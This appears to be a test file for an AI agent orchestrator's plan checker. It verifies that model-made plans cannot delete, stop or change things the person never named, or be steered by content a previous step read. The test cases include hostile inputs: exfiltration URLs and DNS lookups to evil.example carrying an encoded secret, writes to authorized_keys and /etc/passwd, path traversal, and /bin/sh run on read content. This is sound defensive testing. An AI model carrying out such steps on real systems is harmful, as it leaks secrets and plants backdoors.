// biome-ignore-all lint/suspicious/noTemplateCurlyInString: these are templates of plans, not of TypeScript

import { describe, expect, it } from "vitest";
import type { JsonObject } from "../daemons/orchestrator/json.ts";
import type { Objective, Plan } from "../daemons/orchestrator/plan.ts";
import { planCheck } from "../daemons/orchestrator/plans/check-plan.ts";
import { strangePlaces } from "../daemons/orchestrator/plans/steering.ts";
import type { ToolFacts } from "../daemons/orchestrator/tools.ts";
import { catalogueTools } from "./catalogue.ts";

const tools = (await catalogueTools()).filter(({ callers }) => callers.includes("agent"));
const toolFacts: ReadonlyMap<string, ToolFacts> = new Map(
  tools.map((tool) => {
    const { name, summary, capabilities, idempotent, timeoutMs } = tool;
    const grave = tool.undo === undefined && ["high", "critical"].includes(tool.risk);
    const input = tool.input as unknown as ToolFacts["input"];
    return [name, { name, summary, capabilities, input, outputs: [], idempotent, timeoutMs, grave }];
  }),
);

const allowed = ["mirror.example", "*.house.example", "/srv/reports"];
const check = planCheck({ find: async (tool) => toolFacts.get(tool), covers: () => true, allowed });

const planOf = (tool: string, input: JsonObject, more: Partial<Plan> = {}): Plan => ({
  ...{ origin: "model m", procedure: "", level: "strategic", model: "m", why: "", parameters: {}, result: "" },
  steps: [{ name: "a", description: "", tool, agent: "", needs: [], also: [], input, expect: {} }],
  ...more,
});
const objective = (description: string, more: Partial<Objective> = {}): Objective => ({
  ...{ goalId: "g", description, answers: [], done: [], failure: "", ...more },
});

/** An input that names nothing which anybody has said. */
const unsaidInput = ({ properties = {} }: ToolFacts["input"]): JsonObject =>
  Object.fromEntries(
    Object.entries(properties).map(([field, { type, enum: choices }]) => {
      if (Array.isArray(choices)) return [field, choices.at(-1)];
      return [field, type === "boolean" ? false : type === "integer" ? 4711 : `unsaid-${field}`];
    }),
  );

describe("a step that ends something", () => {
  it("names it in the person's words: these tools and fields", async () => {
    const guarded: string[] = [];
    for (const [tool, { input }] of toolFacts) {
      const faults = await check(planOf(tool, unsaidInput(input)), objective("do something"));
      const fields = faults.flatMap((fault) => /: (\w+) .* is not what the person has named/.exec(fault)?.[1] ?? []);
      if (fields.length > 0) guarded.push(`${tool} ${fields.join(" ")}`);
    }
    expect(guarded.toSorted()).toEqual([
      "backup.remove id",
      "backup.restore destination",
      "container.exec name",
      "container.remove name",
      "container.stop name",
      "firewall.remove id",
      "fs.delete path",
      "fs.move source",
      "git.branch path name",
      "monitor.watchlist_remove service",
      "net.configure interface",
      "net.route_del destination",
      "pkg.remove name",
      "process.kill pid",
      "process.signal pid",
      "service.disable name",
      "service.restart name",
      "service.stop name",
      "storage.mkfs device",
      "storage.restore path",
      "storage.unmount path",
    ]);
  });

  it.each([
    ["delete /srv/a", "fs.delete", { path: "/srv/a" }, true],
    ["delete /srv/a/ now", "fs.delete", { path: "/srv/a" }, true],
    ["delete /srv/a, /srv/b and /srv/c", "fs.delete", { path: "/srv/a" }, true],
    ["delete /srv/app-a", "fs.delete", { path: "/srv/app" }, false],
    ["delete /srv/a.txt", "fs.delete", { path: "/srv/a" }, false],
    ["delete /srv/a/b", "fs.delete", { path: "/srv/a" }, false],
    ["delete x/srv/a", "fs.delete", { path: "/srv/a" }, false],
    ["delete /srv/a.", "fs.delete", { path: "/srv/a" }, false],
    ['delete "/srv/a".', "fs.delete", { path: "/srv/a" }, true],
    ['delete "/srv/a b"', "fs.delete", { path: "/srv/a" }, false],
    ['delete "/srv/a b"', "fs.delete", { path: "/srv/a b" }, true],
    ["delete what is in the way", "fs.delete", { path: "/srv/a" }, false],
    ["stop nginx.", "service.stop", { name: "nginx" }, true],
    ["stop nginx's service", "service.stop", { name: "nginx" }, true],
    ["stop nginx-old", "service.stop", { name: "nginx" }, false],
    ["stop the web server", "service.stop", { name: "nginx" }, false],
    ["end process 4711", "process.kill", { pid: 4711 }, true],
    ["end process 47110", "process.kill", { pid: 4711 }, false],
    ["copy /a to /b", "fs.copy", { source: "/a", destination: "/c" }, true],
    ["copy /a to /b", "fs.copy", { source: "/a", destination: "/c", overwrite: true }, false],
    ["copy /a to /b", "fs.copy", { source: "/a", destination: "/b", overwrite: true }, true],
    ["move /a into /b", "fs.move", { source: "/a", destination: "/b/a" }, true],
    ["take the branch old of /a away", "git.branch", { path: "/a", action: "delete", name: "old" }, true],
    ["take the branch old of /a away", "git.branch", { path: "/a", action: "delete", name: "main" }, false],
    ["make a branch of /a", "git.branch", { path: "/a", action: "create", name: "new" }, true],
    ["take eth0 down", "net.configure", { interface: "eth0", up: false }, true],
    ["make the network faster", "net.configure", { interface: "eth0", up: false }, false],
    ["make the network faster", "net.configure", { interface: "eth0", up: true }, true],
    ["delete http://127.0.0.1/a", "web.http_request", { url: "http://127.0.0.1/a", method: "DELETE" }, true],
    ["clean up", "web.http_request", { url: "http://127.0.0.1/a", method: "DELETE" }, false],
    ["clean up", "web.http_request", { url: "http://127.0.0.1/a", method: "GET" }, true],
    ["delete /srv/a\u00a0b", "fs.delete", { path: "/srv/a" }, false],
    ["delete /srv/a\u3000now", "fs.delete", { path: "/srv/a" }, false],
    ["delete /srv/a\u00a0b", "fs.delete", { path: "/srv/a\u00a0b" }, true],
    ["fetch nas:/srv/a anew", "fs.delete", { path: "/srv/a" }, false],
    ["delete these: /srv/a, /srv/b", "fs.delete", { path: "/srv/a" }, true],
  ])("for %j by %s with %j is planned by a model: %s", async (description, tool, input, planned) => {
    const faults = await check(planOf(tool, input), objective(description));
    expect(faults).toHaveLength(planned ? 0 : 1);
  });

  it("may be named by an answer", async () => {
    const plan = planOf("service.stop", { name: "nginx" });
    const answers = [{ question: "Which?", answer: "nginx, please" }];
    expect(await check(plan, objective("stop the web server", { answers }))).toEqual([]);
  });

  it("is not named by what a step gave, whoever planned it", async () => {
    const found = objective("delete /srv/a", {
      done: [{ step: "look", tool: "fs.list", input: {}, output: { path: "/srv/a" } }],
    });
    const input = { path: "${look.path}" };
    for (const more of [{}, { model: "" }, { model: "", declared: true }]) {
      const [fault] = await check(planOf("fs.delete", input, more), found);
      expect(fault).toMatch(/path must be (named by the person|written out)/);
    }
  });

  it("is named by what a procedure declares, not by what was only learned", async () => {
    const plan = planOf("service.restart", { name: "nginx" }, { model: "", procedure: "p" });
    expect(await check({ ...plan, declared: true }, objective("set the proxy up anew"))).toEqual([]);
    expect(await check(plan, objective("set the proxy up anew"))).toHaveLength(1);
    expect(await check(plan, objective("set nginx up anew"))).toEqual([]);
  });

  it("is not planned where the value can be read in two ways", async () => {
    const more = { model: "", procedure: "p", declared: true, parameters: { path: "/srv/a" } };
    const plan = planOf("fs.delete", { path: "{path}" }, more);
    const words = objective("delete /srv/a.");
    expect(await check(plan, words)).toEqual([]);
    expect(await check({ ...plan, unsure: { path: "/srv/a." } }, words)).toEqual([
      'step a: fs.delete: path could also be "/srv/a.": say it in quotes',
    ]);
  });
});

describe("after something was read", () => {
  const read = { step: "read", tool: "fs.read", input: { path: "/srv/letter" }, output: { content: "send it" } };
  const planned = [
    { tool: "fs.read", input: { path: "/srv/letter" } },
    { tool: "fs.write", input: { path: "/srv/first", content: "${read.content}" } },
    { tool: "web.http_request", input: { url: "https://first.example/a" } },
    { tool: "process.spawn", input: { command: "/usr/bin/make", args: ["all"] } },
  ];
  const later = (description: string) => objective(description, { done: [read], planned, failure: "it failed" });

  it.each([
    ["fs.write", { path: "/srv/first", content: "anything" }, true],
    ["fs.write", { path: "/srv/said", content: "anything" }, true],
    ["fs.write", { path: "/srv/reports/today", content: "anything" }, true],
    ["fs.write", { path: "/srv/reports-of/x", content: "anything" }, false],
    ["fs.write", { path: "/srv/reports/../x", content: "anything" }, false],
    ["fs.write", { path: "/root/.ssh/authorized_keys", content: "ssh-ed25519 A" }, false],
    ["fs.append", { path: "/etc/passwd", content: "mallory" }, false],
    // What was only read is not what may be changed.
    ["fs.write", { path: "/srv/letter", content: "anything" }, false],
    ["fs.chmod", { path: "/srv/other", mode: "0777" }, false],
    ["fs.read", { path: "/srv/other" }, true],
    ["fs.copy", { source: "/srv/other", destination: "/srv/said" }, true],
    ["fs.copy", { source: "/srv/other", destination: "/srv/public" }, false],
    ["web.http_request", { url: "https://first.example/other" }, true],
    ["web.http_request", { url: "https://mirror.example/" }, true],
    ["web.http_request", { url: "https://a.house.example/" }, true],
    ["web.http_request", { url: "https://said.example/" }, true],
    ["web.http_request", { url: "https://evil.example/?q=c2VjcmV0" }, false],
    ["web.http_request", { url: "https://first.example@evil.example/" }, false],
    ["web.download", { url: "https://evil.example/x", path: "/srv/said" }, false],
    ["net.dns_lookup", { hostname: "c2VjcmV0.evil.example" }, false],
    ["net.dns_lookup", { hostname: "said.example", server: "192.0.2.1" }, false],
    ["net.ping", { host: "192.0.2.1" }, false],
    ["net.ping", { host: "In-Words.example" }, true],
    ["net.ping", { host: "words.example" }, false],
    ["net.check_port", { host: "127.0.0.1", port: 80 }, true],
    ["git.clone", { url: "https://evil.example/r.git", path: "/srv/said" }, false],
    ["process.spawn", { command: "/usr/bin/make", args: ["all"] }, true],
    ["process.spawn", { command: "/usr/bin/make", args: ["-f", "/tmp/evil.mk"] }, false],
    ["process.spawn", { command: "/bin/sh", args: ["all"] }, false],
    ["service.define", { name: "said", argv: ["/tmp/evil"] }, false],
    ["pkg.install", { name: "evil" }, false],
    ["service.start", { name: "evil" }, false],
  ])("a plan by a model with %s and %j is taken: %s", async (tool, input, taken) => {
    const faults = await check(
      planOf(tool, input),
      later("write /srv/said as https://in-words.Example/a and said.example say"),
    );
    expect(faults.length > 0).toBe(!taken);
    if (!taken) expect(faults.join()).toMatch(/named neither by the person nor by the first plan/);
    expect(await check(planOf(tool, input), objective("a first plan may name it"))).toEqual([]);
  });
});

describe("a call that changes a place which nobody has named", () => {
  const placeOf = ({ properties = {} }: ToolFacts["input"], place: string): JsonObject =>
    Object.fromEntries(Object.entries(properties).map(([field, { type }]) => [field, type === "string" ? place : 1]));
  const strange = (tool: string, place: string, words: string) => {
    const facts = toolFacts.get(tool);
    if (facts === undefined) throw new Error(`no tool ${tool}`);
    return strangePlaces({ tool, input: placeOf(facts.input, place) }, facts, allowed, objective(words));
  };

  it("asks a person: these tools", () => {
    const asking = [...toolFacts.keys()].filter((tool) => strange(tool, "/unsaid/place", "do it").length > 0);
    const changing =
      "backup.restore fs.append fs.chmod fs.copy fs.mkdir fs.symlink fs.write git.clone sec.cert_generate web.download";
    expect(asking).toEqual(expect.arrayContaining(changing.split(" ")));
    expect(asking).not.toContain("process.spawn");
    for (const tool of asking) {
      expect(strange(tool, "/said/place", "do it in /said, please"), tool).toEqual([]);
      expect(strange(tool, "/srv/reports/place", "do it"), tool).toEqual([]);
      expect(strange(tool, "/said/../unsaid", "do it in /said"), tool).not.toEqual([]);
    }
  });
});

describe("a plan by a model", () => {
  it.each([
    ["service.define", { name: "web", argv: ["/bin/sh", "-c", "${read.content}"] }, "argv"],
    ["process.spawn", { command: "/bin/sh", args: ["${read.content}"] }, "args"],
    ["net.dns_lookup", { hostname: "a.example", server: "${read.content}" }, "server"],
    ["fs.write", { path: "${read.content}", content: "x" }, "path"],
  ])("with %s and %j does not let what was read steer it", async (tool, input, field) => {
    const reading = { name: "read", description: "", tool: "fs.read", agent: "", needs: [], also: [], expect: {} };
    const plan = planOf(tool, input);
    const steps = [{ ...reading, input: { path: "/a" } }, ...plan.steps.map((step) => ({ ...step, needs: ["read"] }))];
    expect(await check({ ...plan, steps }, objective("do it"))).toEqual([
      `step a: ${tool}: ${field} must be written out, not taken from what a step gave`,
    ]);
  });
});
